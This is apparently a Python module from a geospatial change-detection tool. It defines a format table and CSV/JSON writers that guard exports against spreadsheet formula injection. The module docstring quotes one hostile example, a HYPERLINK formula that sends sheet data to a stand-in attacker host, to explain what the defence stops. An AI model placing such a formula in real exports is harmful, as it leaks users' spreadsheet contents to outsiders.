"""The one format table: each kind of file the engine reads or writes; every suffix list and file filter a front end
shows is derived from it. And the text of every table written: CSV (:func:`csv_text`), its cells neutralised against
formula injection (a spreadsheet runs a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
as a formula, so a class named ``=HYPERLINK("http://evil.example/?x="&A1,"c")`` would leak the sheet: such text
gets a leading ``'``, OWASP's advice; numbers such as ``-0.5`` stay numbers), and strict JSON (:func:`json_safe`).
"""

from __future__ import annotations

import csv
import io
import math
import os
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from typing import Any

import numpy as np

from . import locations


@dataclass(frozen=True)
class Format:
    """A kind of file: ``label`` (how messages and file dialogs name it: "GeoTIFF"), ``article`` (in a sentence:
    "a GeoTIFF") and ``suffixes`` (lower case, the first to suggest)."""

    key: str
    label: str
    article: str
    suffixes: tuple[str, ...]

    def matches(self, path: str | os.PathLike) -> bool:
        """Whether ``path`` (a file, a URL, ``file.gpkg|layername=x``) ends in one of the suffixes."""
        return locations.suffix(path) in self.suffixes

    def file_filter(self) -> str:
        """A Qt file dialog's filter: ``"GeoTIFF (*.tif *.tiff)"``."""
        return f"{self.label} ({' '.join('*' + s for s in self.suffixes)})"


RASTER = Format("raster", "Raster", "a raster file (GeoTIFF or another GDAL format)",
                (".tif", ".tiff", ".vrt", ".img", ".jp2"))
GEOTIFF = Format("geotiff", "GeoTIFF", "a GeoTIFF", (".tif", ".tiff"))
VECTOR = Format("vector", "Vector layer", "a vector layer (GeoPackage, GeoJSON, Shapefile, ...)",
                (".gpkg", ".geojson", ".json", ".shp", ".fgb", ".gml", ".kml", ".sqlite"))
#: The image tiles of the change datasets (LEVIR-CD, WHU-CD, ...): no georeferencing.
IMAGE_TILE = Format("image_tile", "Image tile", "an image tile (PNG, JPEG or BMP, no georeferencing)",
                    (".png", ".jpg", ".jpeg", ".bmp"))
#: What a change dataset's pair folders hold: GeoTIFFs, or the datasets' image tiles.
PAIR_FILE = Format("pair_file", "Image pair file", "a GeoTIFF or an image tile (PNG, JPEG, BMP)",
                   (*GEOTIFF.suffixes, *IMAGE_TILE.suffixes))
GPKG = Format("gpkg", "GeoPackage", "a GeoPackage", (".gpkg",))
BUNDLE = Format("bundle", "DualStream model", "a DualStream model bundle", (".dsmodel",))
ONNX = Format("onnx", "ONNX model", "an ONNX model", (".onnx",))
MODEL = Format("model", "Models", "a model (a DualStream bundle or an ONNX model)", (*BUNDLE.suffixes, *ONNX.suffixes))
REPORT = Format("html", "HTML report", "HTML", (".html", ".htm"))
JSON = Format("json", "JSON", "JSON", (".json",))
CSV = Format("csv", "CSV", "CSV", (".csv",))

#: Every format by key.
FORMAT_TABLE: dict[str, Format] = {f.key: f for f in (RASTER, GEOTIFF, IMAGE_TILE, PAIR_FILE, VECTOR, GPKG, BUNDLE,
                                                      ONNX, MODEL, REPORT, JSON, CSV)}
#: The file name endings of the rasters a command reads (GDAL reads them all): a bulk run's scenes in a folder, an
#: evaluation's predictions.
RASTER_SUFFIXES = RASTER.suffixes
#: The vector layers read as labels and areas (by file name; ``file.gpkg|layername=NAME`` and a GeoJSON URL count).
VECTOR_SUFFIXES = VECTOR.suffixes
#: The models a run takes: a bundle, or an ONNX model made elsewhere.
MODEL_SUFFIXES = MODEL.suffixes
#: A file dialog's filter for models: all of them, then each kind.
MODEL_FILTER = ";;".join(f.file_filter() for f in (MODEL, BUNDLE, ONNX))


def is_vector_path(path: str | os.PathLike) -> bool:
    """True for the vector formats accepted as labels / AOIs (:data:`VECTOR_SUFFIXES`)."""
    return VECTOR.matches(path)


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` for a CSV cell: text that a spreadsheet would run as a formula gets a leading ``'``."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    try:
        number = float(value)
    except ValueError:
        return "'" + value
    return value if math.isfinite(number) or value.strip().lstrip("+-").lower() in ("inf", "nan") else "'" + value


def csv_text(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A CSV document (``\\n`` line ends), every cell through :func:`safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([safe_cell(v) for v in header])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return buffer.getvalue()


def dict_csv_text(columns: Sequence[str], rows: Iterable[dict[str, Any]]) -> str:
    """:func:`csv_text` of mappings (missing keys give empty cells)."""
    return csv_text(columns, ([row.get(k, "") for k in columns] for row in rows))


def json_safe(value: Any) -> Any:
    """``value`` as strict JSON takes it, dicts and lists walked: NaN and infinities become None (the per-class
    metrics hold NaN for classes absent from validation), numpy scalars Python numbers, tuples lists."""
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, float):
        return value if math.isfinite(value) else None
    if isinstance(value, dict):
        return {k: json_safe(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [json_safe(v) for v in value]
    return value
